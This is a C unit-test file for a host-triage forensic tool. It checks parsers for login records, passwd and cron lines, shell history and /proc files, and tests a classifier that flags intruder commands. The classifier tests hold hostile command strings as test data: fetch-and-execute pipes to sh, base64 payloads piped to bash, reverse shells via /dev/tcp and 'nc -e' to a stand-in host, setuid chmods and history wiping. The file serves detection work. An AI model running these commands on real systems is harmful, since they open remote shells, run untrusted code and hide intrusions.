/*
 * test_host_parse.c - the parsers of host triage on exact inputs: utmp
 * and lastlog records laid out as glibc writes them, passwd, shadow and
 * group lines, crontab lines, history lines, /proc stat and status
 * files, terminal names, and the shell-command classifier on the forms
 * intruders type (and on ordinary commands that must stay quiet).
 */
#include <arpa/inet.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>
#include <lastlog.h>
#include <utmp.h>

#include "host/host_int.h"

static void
test_utmp_record(void **state)
{
	struct utmp in;
	struct ks_utmp u;
	unsigned char raw[KS_UTMP_SIZE];

	(void)state;
	assert_int_equal(sizeof(in), KS_UTMP_SIZE);
	memset(&in, 0, sizeof(in));
	in.ut_type = USER_PROCESS;
	in.ut_pid = 14483;
	memcpy(in.ut_line, "pts/0", 5);
	memcpy(in.ut_user, "mityxxxxxxxxxxxxxxxxxxxxxxxxxxxx", 32);
	memcpy(in.ut_host, "192.168.0.27", 12);
	in.ut_tv.tv_sec = 1137721320;
	in.ut_tv.tv_usec = 5;
	in.ut_addr_v6[0] = (int32_t)htonl(0xc0a8001b);
	memcpy(raw, &in, sizeof(raw));
	ks_utmp_parse(raw, &u);
	assert_false(u.zero);
	assert_int_equal(u.type, KS_UT_USER);
	assert_int_equal(u.pid, 14483);
	assert_string_equal(u.line, "pts/0");
	/* 32 bytes without a NUL: all kept, terminated */
	assert_string_equal(u.user, "mityxxxxxxxxxxxxxxxxxxxxxxxxxxxx");
	assert_string_equal(u.host, "192.168.0.27");
	assert_string_equal(u.addr, "192.168.0.27");
	assert_int_equal(u.time_us, 1137721320000005LL);
	memset(raw, 0, sizeof(raw));
	ks_utmp_parse(raw, &u);
	assert_true(u.zero);
	assert_string_equal(u.addr, "");
}

static void
test_lastlog_record(void **state)
{
	struct lastlog in;
	struct ks_lastlog l;
	unsigned char raw[KS_LASTLOG_SIZE];

	(void)state;
	assert_int_equal(sizeof(in), KS_LASTLOG_SIZE);
	memset(&in, 0, sizeof(in));
	in.ll_time = 1137721320;
	memcpy(in.ll_line, "pts/0", 5);
	memcpy(in.ll_host, "203.0.113.9", 11);
	memcpy(raw, &in, sizeof(raw));
	ks_lastlog_parse(raw, &l);
	assert_int_equal(l.time_us, 1137721320000000LL);
	assert_string_equal(l.line, "pts/0");
	assert_string_equal(l.host, "203.0.113.9");
}

static void
test_remote_and_shutdown(void **state)
{
	struct ks_utmp u;

	(void)state;
	assert_true(ks_host_is_remote("192.114.85.56"));
	assert_true(ks_host_is_remote("2001:db8::1"));
	assert_true(ks_host_is_remote("dialup.isp.example"));
	assert_false(ks_host_is_remote("192.168.0.27"));
	assert_false(ks_host_is_remote("10.1.2.3"));
	assert_false(ks_host_is_remote("172.20.0.1"));
	assert_true(ks_host_is_remote("172.32.0.1"));
	assert_false(ks_host_is_remote("::ffff:10.0.0.1"));
	assert_false(ks_host_is_remote("fe80::1%eth0"));
	assert_false(ks_host_is_remote(":0"));
	assert_false(ks_host_is_remote(""));
	assert_false(ks_host_is_remote("laptop"));
	assert_false(ks_host_is_remote("tmux(1234).%0"));
	memset(&u, 0, sizeof(u));
	u.type = KS_UT_RUN_LVL;
	strcpy(u.user, "shutdown");
	assert_true(ks_utmp_is_shutdown(&u));
	strcpy(u.user, "runlevel");
	u.pid = '6' + 256 * '3';
	assert_true(ks_utmp_is_shutdown(&u));
	u.pid = '3' + 256 * 'N';
	assert_false(ks_utmp_is_shutdown(&u));
}

static void
test_passwd_lines(void **state)
{
	char pw[] = "toor:x:0:0:backdoor:/root:/bin/bash";
	char bad1[] = "broken:x:0:0:/root:/bin/bash";
	char bad2[] = "x:x:12a:0::/:/bin/sh";
	char bad3[] = ":x:1:1::/:/bin/sh";
	char sp[] = "root::19000:0:99999:7:::";
	char sp2[] = "daemon:*";
	char gr[] = "root:x:0:alice,bob";
	struct ks_pwent p;
	struct ks_spent s;
	struct ks_grent g;

	(void)state;
	assert_int_equal(ks_pw_parse(pw, &p), 0);
	assert_string_equal(p.name, "toor");
	assert_int_equal(p.uid, 0);
	assert_string_equal(p.gecos, "backdoor");
	assert_string_equal(p.shell, "/bin/bash");
	assert_int_equal(ks_pw_parse(bad1, &p), -1);
	assert_int_equal(ks_pw_parse(bad2, &p), -1);
	assert_int_equal(ks_pw_parse(bad3, &p), -1);
	assert_int_equal(ks_sp_parse(sp, &s), 0);
	assert_string_equal(s.hash, "");
	assert_int_equal(ks_sp_parse(sp2, &s), 0);
	assert_string_equal(s.hash, "*");
	assert_int_equal(ks_gr_parse(gr, &g), 0);
	assert_int_equal(g.gid, 0);
	assert_string_equal(g.members, "alice,bob");
	assert_true(ks_shell_is_login("/bin/bash"));
	assert_true(ks_shell_is_login(""));
	assert_false(ks_shell_is_login("/usr/sbin/nologin"));
	assert_false(ks_shell_is_login("/bin/sync"));
}

static void
cron_is(const char *line, bool sys, enum ks_cron_line want,
    const char *sched, const char *user, const char *cmd)
{
	struct ks_cron_entry e;

	assert_int_equal(ks_cron_parse(line, strlen(line), sys, &e), want);
	if (want != KS_CRON_ENTRY)
		return;
	assert_int_equal(e.schedule.n, strlen(sched));
	assert_memory_equal(e.schedule.p, sched, e.schedule.n);
	assert_int_equal(e.user.n, strlen(user));
	assert_memory_equal(e.user.p, user, e.user.n);
	assert_int_equal(e.command.n, strlen(cmd));
	assert_memory_equal(e.command.p, cmd, e.command.n);
}

static void
test_cron_lines(void **state)
{
	(void)state;
	cron_is("17 *\t* * *  root    cd / && run-parts --report /etc/cron.hourly",
	    true, KS_CRON_ENTRY, "17 *\t* * *", "root",
	    "cd / && run-parts --report /etc/cron.hourly");
	cron_is("*/5 * * * * /tmp/.x/run >/dev/null 2>&1", false, KS_CRON_ENTRY,
	    "*/5 * * * *", "", "/tmp/.x/run >/dev/null 2>&1");
	cron_is("@reboot root /var/tmp/.d/start", true, KS_CRON_ENTRY, "@reboot",
	    "root", "/var/tmp/.d/start");
	cron_is("0 4 * jan,feb mon-fri root true", true, KS_CRON_ENTRY,
	    "0 4 * jan,feb mon-fri", "root", "true");
	cron_is("SHELL=/bin/sh", true, KS_CRON_ENV, NULL, NULL, NULL);
	cron_is("MAILTO = root", true, KS_CRON_ENV, NULL, NULL, NULL);
	cron_is("   # a comment", true, KS_CRON_BLANK, NULL, NULL, NULL);
	cron_is("", true, KS_CRON_BLANK, NULL, NULL, NULL);
	cron_is("@sometimes root x", true, KS_CRON_BAD, NULL, NULL, NULL);
	cron_is("* * * *", false, KS_CRON_BAD, NULL, NULL, NULL);
	cron_is("* * * * * root", true, KS_CRON_BAD, NULL, NULL, NULL);
	cron_is("* * * * ;x cmd", false, KS_CRON_BAD, NULL, NULL, NULL);
}

static void
test_history_lines(void **state)
{
	struct ks_hist_line l;
	int64_t stamp = 0;
	const char *zsh = ": 1700000000:0;curl -s http://x | sh";

	(void)state;
	assert_false(ks_hist_parse("#1700000001", 11, &stamp, &l));
	assert_int_equal(stamp, 1700000001000000LL);
	assert_true(ks_hist_parse("ls -al", 6, &stamp, &l));
	assert_int_equal(l.time_us, 1700000001000000LL);
	assert_int_equal(l.cmd.n, 6);
	assert_true(ks_hist_parse(zsh, strlen(zsh), &stamp, &l));
	assert_int_equal(l.time_us, 1700000000000000LL);
	assert_int_equal(l.cmd.n, strlen("curl -s http://x | sh"));
	assert_true(ks_hist_parse("#comment", 8, &stamp, &l));
	assert_int_equal(l.cmd.n, 8);
	/* a stamp line that ends the buffer, digits followed by more digits
	 * in memory: only the line's own digits count (a fuzzer found the
	 * parser reading past the buffer) */
	assert_false(ks_hist_parse("#17000000029999", 11, &stamp, &l));
	assert_int_equal(stamp, 1700000002000000LL);
	assert_true(ks_hist_parse(": 1700000003:0;ls99", 17, &stamp, &l));
	assert_int_equal(l.time_us, 1700000003000000LL);
	assert_int_equal(l.cmd.n, 2);
}

static void
test_proc_files(void **state)
{
	const char *stat = "4242 (evil) proc)) S 1 4242 4242 34816 4242 "
	    "4194560 100 0 0 0 1 2 0 0 20 0 1 0 123456 1000 10 "
	    "18446744073709551615";
	const char *kthread = "2 (kthreadd) S 0 0 0 0 -1 2129984 0 0 0 0 0 0 "
	    "0 0 20 0 1 0 5 0 0";
	const char *status = "Name:\tx\nUmask:\t0022\nState:\tS\nTgid:\t4242\n"
	    "Ngid:\t0\nPid:\t4243\nPPid:\t1\nUid:\t1000\t0\t0\t0\n";
	struct ks_proc p;
	char tty[32];

	(void)state;
	memset(&p, 0, sizeof(p));
	assert_int_equal(ks_proc_parse_stat(stat, strlen(stat), &p), 0);
	assert_int_equal(p.pid, 4242);
	assert_string_equal(p.comm, "evil) proc)");
	assert_int_equal(p.state, 'S');
	assert_int_equal(p.ppid, 1);
	assert_int_equal(p.tty_nr, 34816);
	assert_int_equal(p.start_ticks, 123456);
	assert_false(p.kthread);
	memset(&p, 0, sizeof(p));
	assert_int_equal(ks_proc_parse_stat(kthread, strlen(kthread), &p), 0);
	assert_true(p.kthread);
	assert_int_equal(ks_proc_parse_stat("12 (x", 5, &p), -1);
	assert_int_equal(ks_proc_parse_stat("12 (x) S", 8, &p), -1);
	memset(&p, 0, sizeof(p));
	assert_int_equal(ks_proc_parse_status(status, strlen(status), &p), 0);
	assert_int_equal(p.tgid, 4242);
	assert_int_equal(p.uid, 1000);
	assert_int_equal(p.euid, 0);
	assert_int_equal(ks_proc_parse_status("Tgid:\t1\n", 8, &p), -1);
	assert_true(ks_tty_name(34816, tty, sizeof(tty)));
	assert_string_equal(tty, "pts/0");
	assert_true(ks_tty_name(0x8803, tty, sizeof(tty)));
	assert_string_equal(tty, "pts/3");
	assert_true(ks_tty_name(0x401, tty, sizeof(tty)));
	assert_string_equal(tty, "tty1");
	assert_false(ks_tty_name(0, tty, sizeof(tty)));
}

static unsigned
cls(const char *line, const char *cwd)
{
	return ks_cmd_classify(line, strlen(line), cwd);
}

static void
test_classify(void **state)
{
	(void)state;
	assert_int_equal(cls("curl -fsSL http://203.0.113.9/x.sh | sh", NULL),
	    KS_CMD_FETCH_EXEC);
	assert_int_equal(cls("wget -qO- http://x/y | sudo bash -s", NULL),
	    KS_CMD_FETCH_EXEC);
	assert_int_equal(cls("bash -c \"$(curl -s http://x/i)\"", NULL),
	    KS_CMD_FETCH_EXEC);
	assert_int_equal(cls("sh <(wget -O- http://x/i)", NULL),
	    KS_CMD_FETCH_EXEC);
	assert_int_equal(cls("echo ZWNobyBoaQ== | base64 -d | bash", NULL),
	    KS_CMD_FETCH_EXEC);
	assert_int_equal(cls("cd /tmp; wget http://x/k; chmod +x k; ./k",
	    NULL), KS_CMD_FETCH_EXEC | KS_CMD_TMP_EXEC);
	assert_int_equal(cls("/tmp/.x/run >/dev/null 2>&1", NULL),
	    KS_CMD_TMP_EXEC);
	assert_int_equal(cls("nohup /dev/shm/.k -d &", NULL), KS_CMD_TMP_EXEC);
	assert_int_equal(cls("perl /var/tmp/a.pl", NULL), KS_CMD_TMP_EXEC);
	assert_int_equal(cls("./exploit", "/tmp"), KS_CMD_TMP_EXEC);
	assert_int_equal(cls("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", NULL),
	    KS_CMD_REVSHELL);
	assert_int_equal(cls("nc -e /bin/sh 203.0.113.9 4444", NULL),
	    KS_CMD_REVSHELL);
	assert_int_equal(cls("chmod 4755 /var/tmp/sh", NULL), KS_CMD_SETUID);
	assert_int_equal(cls("chmod u+s,g+x /bin/bash", NULL), KS_CMD_SETUID);
	assert_int_equal(cls("chmod +s rootme", NULL), KS_CMD_SETUID);
	assert_int_equal(cls("unset HISTFILE", NULL), KS_CMD_HIST_OFF);
	assert_int_equal(cls("export HISTFILE=/dev/null", NULL),
	    KS_CMD_HIST_OFF);
	assert_int_equal(cls("history -c", NULL), KS_CMD_HIST_OFF);
	assert_int_equal(cls("ln -sf /dev/null ~/.bash_history", NULL),
	    KS_CMD_HIST_OFF);
	assert_int_equal(cls("cat /dev/null > ~/.bash_history", NULL),
	    KS_CMD_HIST_OFF);
	assert_int_equal(cls("gcc -o x x.c", "/tmp/.k"), KS_CMD_COMPILE_TMP);
	assert_int_equal(cls("make", "/var/tmp"), KS_CMD_COMPILE_TMP);
	/* ordinary work stays quiet */
	assert_int_equal(cls("cp /tmp/index.php ./", NULL), 0);
	assert_int_equal(cls("chmod 777 public_html/", NULL), 0);
	assert_int_equal(cls("chmod g+s shared", NULL), 0);
	assert_int_equal(cls("curl -o page.html http://example.com/", NULL), 0);
	assert_int_equal(cls("gcc -o x x.c", "/home/mity"), 0);
	assert_int_equal(cls("cd / && run-parts --report /etc/cron.hourly",
	    NULL), 0);
	assert_int_equal(cls("rm -f /tmp/stale.pid", NULL), 0);
	assert_int_equal(cls("echo '/tmp/x | sh'", NULL), 0);
	assert_int_equal(cls("# curl http://x | sh", NULL), 0);
}

static void
test_cd(void **state)
{
	char buf[256];
	const char *d;

	(void)state;
	d = ks_cmd_cd("cd /tmp", 7, "/root", buf, sizeof(buf));
	assert_string_equal(d, "/tmp");
	d = ks_cmd_cd("cd .k && ls", 11, "/tmp", buf, sizeof(buf));
	assert_string_equal(d, "/tmp/.k");
	d = ks_cmd_cd("ls -al", 6, "/root", buf, sizeof(buf));
	assert_string_equal(d, "/root");
	assert_null(ks_cmd_cd("cd ~", 4, "/tmp", buf, sizeof(buf)));
	assert_null(ks_cmd_cd("cd x", 4, NULL, buf, sizeof(buf)));
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_utmp_record),
		cmocka_unit_test(test_lastlog_record),
		cmocka_unit_test(test_remote_and_shutdown),
		cmocka_unit_test(test_passwd_lines),
		cmocka_unit_test(test_cron_lines),
		cmocka_unit_test(test_history_lines),
		cmocka_unit_test(test_proc_files),
		cmocka_unit_test(test_classify),
		cmocka_unit_test(test_cd),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
